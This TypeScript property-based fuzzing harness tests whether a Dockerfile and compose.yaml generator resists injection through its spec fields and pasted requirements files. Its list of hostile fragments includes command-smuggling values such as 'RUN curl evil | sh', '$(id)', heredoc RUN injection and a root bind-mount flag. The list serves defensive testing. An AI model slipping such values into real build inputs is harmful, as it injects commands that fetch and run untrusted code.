/**
 * Injection fuzzing: put hostile text into one spec field at a time and check that the result is
 * either refused with an issue naming that field, or renders into exactly the instruction
 * structure a benign value gives — no extra instruction, no extra shell command.
 * Shared by the Vitest property test (short run) and scripts/fuzz.ts (100,000+ cases).
 */
import fc from "fast-check";
import { generate } from "../generate";
import { renderCompose } from "../render/compose";
import { fileOptionsToSpec, gitPackagesOf, parseRequirementsTxt } from "../requirements";
import { BuildSpecSchema, DEFAULT_SPEC, parseSpec, type BuildSpecInput } from "../spec";
import { HOST, INDEX_URL, NO_BINARY_ITEM, PEP508_NAME } from "../spec/grammars";
import { parseDockerfile } from "./dockerfile";

/** Fragments that break out of lines, quotes or commands in Dockerfiles and shells. */
export const HOSTILE_FRAGMENTS = [
  "\n", "\r\n", "\r", "\\\n", "\\", "#", "# syntax=evil", '"', "'", "`", "$(id)", "${HOME}", "$PATH", "&&", "||", ";", "|",
  "<<EOF\nRUN id\nEOF", ">", "<", "\u2028", "\u2029", "\u0085", "\u0000", "\t", " ", "RUN curl evil | sh", "\nRUN id",
  "\\\nRUN id", "]", "[", ",", "=", "--mount=type=bind,source=/,target=/x", "*", "..", "/", "-", "é", "😀", "\u200b",
];

export const hostileString = fc
  .array(fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...HOSTILE_FRAGMENTS) }, { weight: 2, arbitrary: fc.string({ maxLength: 8 }) }, { weight: 1, arbitrary: fc.constantFrom("app", "psycopg2", "libpq5", "3.12", "slim-bookworm", "/app", "8000") }), { maxLength: 8 })
  .map((parts) => parts.join(""));

/** The benign spec every case starts from: it exercises every instruction kind. */
export const BENIGN: BuildSpecInput = {
  ...DEFAULT_SPEC,
  python: "3.13",
  base: "slim-bookworm",
  packages: [{ name: "psycopg2", extras: ["pool"], specifier: ">=2.9", marker: 'python_version >= "3.9"' }],
  systemPackages: { build: ["make"], runtime: ["tini"], omit: [] },
  noBinary: ["psycopg2"],
  indexUrl: "https://pypi.example.org/simple",
  extraIndexUrls: ["https://extra.example.org/simple"],
  trustedHosts: ["pypi.example.org"],
  findLinks: ["https://download.example.org/wheels/"],
  onlyBinary: ["numpy"],
  runtime: {
    ...DEFAULT_SPEC.runtime,
    copy: ["src"],
    workdir: "/app",
    command: ["gunicorn", "--bind", "0.0.0.0:8000", "app:app"],
    port: 8000,
    user: { enabled: true, name: "app", uid: 10001 },
    healthcheck: { enabled: true, path: "/health" },
    env: [{ name: "APP_MODE", value: "production" }],
  },
};

type Setter = (spec: BuildSpecInput, value: string) => BuildSpecInput;

/**
 * Values each grammar accepts, for the fields whose grammar refuses nearly every hostile string: without them those
 * fields' rendering (index URLs and hosts on the pip command line, names in /src[a,b]) would be tried only with the
 * benign spec's one value.
 */
const VALID = {
  url: fc.stringMatching(INDEX_URL, { size: "small" }),
  host: fc.stringMatching(HOST, { size: "small" }),
  name: fc.stringMatching(PEP508_NAME, { size: "small" }),
  nameOrAll: fc.stringMatching(NO_BINARY_ITEM, { size: "small" }),
};

/** Every user-supplied string field, with the path its issues must name (and, where the grammar is strict, valid values). */
export const FIELDS: { path: string; set: Setter; valid?: fc.Arbitrary<string> }[] = [
  { path: "python", set: (s, v) => ({ ...s, python: v }) },
  { path: "base", set: (s, v) => ({ ...s, base: v as never }) },
  { path: "finalBase", set: (s, v) => ({ ...s, finalBase: v as never }) },
  { path: "strategy", set: (s, v) => ({ ...s, strategy: v as never }) },
  { path: "dependencySource", set: (s, v) => ({ ...s, dependencySource: v as never }) },
  { path: "platform", set: (s, v) => ({ ...s, platform: v as never }) },
  { path: "packages.0.name", set: (s, v) => ({ ...s, packages: [{ ...s.packages![0], name: v }] }), valid: VALID.name },
  { path: "packages.0.extras.0", set: (s, v) => ({ ...s, packages: [{ ...s.packages![0], extras: [v] }] }), valid: VALID.name },
  { path: "packages.0.specifier", set: (s, v) => ({ ...s, packages: [{ ...s.packages![0], specifier: v }] }) },
  { path: "packages.0.marker", set: (s, v) => ({ ...s, packages: [{ ...s.packages![0], marker: v }] }) },
  { path: "packages.0.hashes.0", set: (s, v) => ({ ...s, packages: [{ ...s.packages![0], hashes: [v] }] }) },
  { path: "noBinary.0", set: (s, v) => ({ ...s, noBinary: [v] }), valid: VALID.nameOrAll },
  { path: "projectExtras.0", set: (s, v) => ({ ...s, dependencySource: "pyproject", projectExtras: [v] }), valid: VALID.name },
  { path: "gitPackages.0", set: (s, v) => ({ ...s, gitPackages: [v] }), valid: VALID.name },
  { path: "indexUrl", set: (s, v) => ({ ...s, indexUrl: v }), valid: VALID.url },
  { path: "extraIndexUrls.0", set: (s, v) => ({ ...s, extraIndexUrls: [v] }), valid: VALID.url },
  { path: "trustedHosts.0", set: (s, v) => ({ ...s, trustedHosts: [v] }), valid: VALID.host },
  { path: "findLinks.0", set: (s, v) => ({ ...s, findLinks: [v] }), valid: VALID.url },
  { path: "onlyBinary.0", set: (s, v) => ({ ...s, onlyBinary: [v] }), valid: VALID.nameOrAll },
  { path: "requiresPython", set: (s, v) => ({ ...s, requiresPython: v }) },
  { path: "systemPackages.build.0", set: (s, v) => ({ ...s, systemPackages: { ...s.systemPackages!, build: [v] } }) },
  { path: "systemPackages.runtime.0", set: (s, v) => ({ ...s, systemPackages: { ...s.systemPackages!, runtime: [v] } }) },
  { path: "systemPackages.omit.0", set: (s, v) => ({ ...s, systemPackages: { ...s.systemPackages!, omit: [v] } }) },
  { path: "runtime.copy.0", set: (s, v) => ({ ...s, runtime: { ...s.runtime!, copy: [v] } }) },
  { path: "runtime.workdir", set: (s, v) => ({ ...s, runtime: { ...s.runtime!, workdir: v } }) },
  { path: "runtime.command.0", set: (s, v) => ({ ...s, runtime: { ...s.runtime!, command: [v, "--bind", "0.0.0.0:8000", "app:app"] } }) },
  { path: "runtime.command.1", set: (s, v) => ({ ...s, runtime: { ...s.runtime!, command: ["gunicorn", v, "0.0.0.0:8000", "app:app"] } }) },
  { path: "runtime.user.name", set: (s, v) => ({ ...s, runtime: { ...s.runtime!, user: { enabled: true, uid: 10001, name: v } } }) },
  { path: "runtime.healthcheck.path", set: (s, v) => ({ ...s, runtime: { ...s.runtime!, healthcheck: { enabled: true, path: v } } }) },
  { path: "runtime.env.0.name", set: (s, v) => ({ ...s, runtime: { ...s.runtime!, env: [{ name: v, value: "x" }] } }) },
  { path: "runtime.env.0.value", set: (s, v) => ({ ...s, runtime: { ...s.runtime!, env: [{ name: "APP_MODE", value: v }] } }) },
];

const SHELL_OPERATORS = /&&|\|\||[;|`<>]|\$\(/g;

/** Outside single and double quotes, the shell operators a RUN line contains. */
function shellOperators(run: string): string[] {
  const unquoted = run.replace(/'[^']*'|"(?:[^"\\]|\\.)*"/g, "''");
  return unquoted.replace(/\\\n/g, " ").match(SHELL_OPERATORS) ?? [];
}

/** The structure an attacker would have to change: instruction keywords, RUN operators, ENV keys, argv lengths. */
export function structure(dockerfile: string): string[] {
  const parsed = parseDockerfile(dockerfile);
  const out: string[] = [...parsed.directives.map((d) => `directive ${d}`)];
  for (const ins of parsed.instructions) {
    if (ins.keyword === "RUN") out.push(`RUN ${shellOperators(ins.text).join(" ")}`);
    else if (ins.keyword === "ENV") {
      const env = parsed.dockerfile.getENVs().find((e) => e.getRange().start.line === ins.line)!;
      // Names may legitimately change with the field; their count may not.
      out.push(`ENV props=${env.getProperties().length}`);
    } else if (ins.keyword === "CMD" || ins.keyword === "HEALTHCHECK") {
      const json = ins.text.slice(ins.text.indexOf("["));
      out.push(`${ins.keyword} argv=${(JSON.parse(json) as unknown[]).length}`);
    } else out.push(`${ins.keyword} args=${ins.args.length}`);
  }
  return out;
}

export const BENIGN_STRUCTURE = structure(generate(BuildSpecSchema.parse(BENIGN)).dockerfile);

const COMPOSE_LINE = /^( *)(?:(#) .*|([a-z0-9_-]+):(?: (.*))?|- (.*))$/;
/** Fixed scalars compose.ts prints bare; every other value must read back as one JSON/YAML double-quoted string (or a list of them). */
const BARE_VALUE = /^(\d+|\d+s|unless-stopped)$/;

function composeValue(v: string): string {
  if (BARE_VALUE.test(v)) return "bare";
  try {
    const parsed: unknown = JSON.parse(v);
    if (typeof parsed === "string") return "string";
    if (Array.isArray(parsed) && parsed.every((x) => typeof x === "string")) return `list=${parsed.length}`;
  } catch {
    // not one quoted value: reported below
  }
  return `unquoted ${JSON.stringify(v)}`;
}

/**
 * compose.yaml's structure: per line its indentation and key (the service name as "service"), list items, and
 * what kind of value each carries. A YAML line break other than \n (\r, NEL, LS, PS) is reported as such.
 */
export function composeStructure(yaml: string): string[] {
  return yaml.trimEnd().split("\n").map((line) => {
    if (/[\r\u0085\u2028\u2029]/.test(line)) return `line break inside ${JSON.stringify(line)}`;
    const m = COMPOSE_LINE.exec(line);
    if (!m) return `unreadable ${JSON.stringify(line)}`;
    const [, indent, hash, key, value, item] = m;
    if (hash) return `${indent.length} #`;
    const name = key === undefined ? "-" : indent.length === 2 ? "service" : key;
    const v = value ?? item;
    return `${indent.length} ${name}${v === undefined ? "" : ` ${composeValue(v)}`}`;
  });
}

const BENIGN_COMPOSE = composeStructure(renderCompose({ spec: BuildSpecSchema.parse(BENIGN) }, { service: "app", envFile: true }));

export type CaseResult = { outcome: "refused" | "rendered" } | { outcome: "failed"; reason: string };

/** One case: a field and a value. */
export function checkCase(field: (typeof FIELDS)[number], value: string): CaseResult {
  const r = parseSpec(field.set(BENIGN, value));
  if (!r.ok) {
    const named = r.issues.some((i) => i.field === field.path || i.field.startsWith(field.path + ".") || field.path.startsWith(i.field));
    return named ? { outcome: "refused" } : { outcome: "failed", reason: `refused without naming ${field.path}: ${JSON.stringify(r.issues)}` };
  }
  let text: string;
  try {
    text = generate(r.spec).dockerfile;
  } catch (e) {
    return { outcome: "failed", reason: `accepted but the renderer threw: ${(e as Error).message}` };
  }
  const got = structure(text);
  if (got.length !== BENIGN_STRUCTURE.length || got.some((g, i) => g !== BENIGN_STRUCTURE[i])) {
    // Fields that legitimately change the structure (e.g. no package needing a compiler) are
    // still safe when they add no instruction and no shell operator compared with the benign run.
    const extra = got.filter((g) => !BENIGN_STRUCTURE.includes(g));
    if (got.length > BENIGN_STRUCTURE.length || extra.length > 0)
      return { outcome: "failed", reason: `structure changed: ${JSON.stringify({ value, got, benign: BENIGN_STRUCTURE })}` };
  }
  // compose.yaml from the same spec, the hostile value also offered as the service name: the same lines.
  const compose = composeStructure(renderCompose({ spec: r.spec }, { service: value, envFile: true }));
  if (compose.length !== BENIGN_COMPOSE.length || compose.some((c, i) => c !== BENIGN_COMPOSE[i]))
    return { outcome: "failed", reason: `compose.yaml structure changed: ${JSON.stringify({ value, got: compose, benign: BENIGN_COMPOSE })}` };
  return { outcome: "rendered" };
}

/** A field and a value for it: hostile text, or (for a strict grammar, half the time) a value the grammar accepts. */
export const caseArbitrary = fc
  .integer({ min: 0, max: FIELDS.length - 1 })
  .chain((i) => fc.tuple(fc.constant(i), FIELDS[i].valid ? fc.oneof(hostileString, FIELDS[i].valid) : hostileString));

// ---------------------------------------------------------------------------------------------
// Requirements files: what a file's own options and Git lines put into the spec must render harmlessly
// ---------------------------------------------------------------------------------------------

/** A value that is valid or hostile, for a line of a requirements file. */
const eitherValue = (valid: fc.Arbitrary<string>) => fc.oneof(valid, hostileString.map((v) => v.replace(/[\r\n]/g, " ")));
const gitLine = fc
  .tuple(eitherValue(VALID.name), VALID.host, fc.stringMatching(/^[A-Za-z0-9._/-]{1,30}$/), fc.stringMatching(/^[A-Za-z0-9._-]{1,20}$/))
  .map(([name, host, path, ref]) => `${name} @ git+https://${host}/${path}.git@${ref}`);
const optionLine = fc.oneof(
  eitherValue(VALID.url).map((u) => `--index-url ${u}`),
  eitherValue(VALID.url).map((u) => `--extra-index-url=${u}`),
  eitherValue(VALID.url).map((u) => `-f ${u}`),
  eitherValue(VALID.host).map((h) => `--trusted-host ${h}`),
  eitherValue(VALID.nameOrAll).map((n) => `--no-binary ${n}`),
  eitherValue(VALID.nameOrAll).map((n) => `--only-binary=${n}`),
  fc.constant("--pre"),
);

/** A requirements file of option lines, Git lines and plain requirements, in any order. */
export const requirementsFileArbitrary = fc
  .array(fc.oneof({ weight: 3, arbitrary: optionLine }, { weight: 2, arbitrary: gitLine }, { weight: 1, arbitrary: eitherValue(VALID.name) }), { minLength: 1, maxLength: 8 })
  .map((lines) => lines.join("\n"));

/**
 * One file case, read the way the CLI and the page read a pasted file: the file's options and Git packages go into
 * the benign spec, which must then be valid (only values the grammars accept are taken) and render the benign
 * structure, with no extra instruction or shell operator.
 */
export function checkFileCase(text: string): CaseResult {
  const parsed = parseRequirementsTxt(text);
  const spec: BuildSpecInput = { ...BENIGN, ...fileOptionsToSpec(parsed.options), gitPackages: gitPackagesOf(parsed) };
  const r = parseSpec(spec);
  if (!r.ok) return { outcome: "failed", reason: `the file's options made an invalid spec: ${JSON.stringify({ text, issues: r.issues })}` };
  let dockerfile: string;
  try {
    dockerfile = generate(r.spec).dockerfile;
  } catch (e) {
    return { outcome: "failed", reason: `the renderer threw on a spec from a file: ${(e as Error).message} ${JSON.stringify(text)}` };
  }
  const got = structure(dockerfile);
  const extra = got.filter((g) => !BENIGN_STRUCTURE.includes(g));
  if (got.length > BENIGN_STRUCTURE.length || extra.length > 0) return { outcome: "failed", reason: `structure changed: ${JSON.stringify({ text, got, benign: BENIGN_STRUCTURE })}` };
  return { outcome: "rendered" };
}
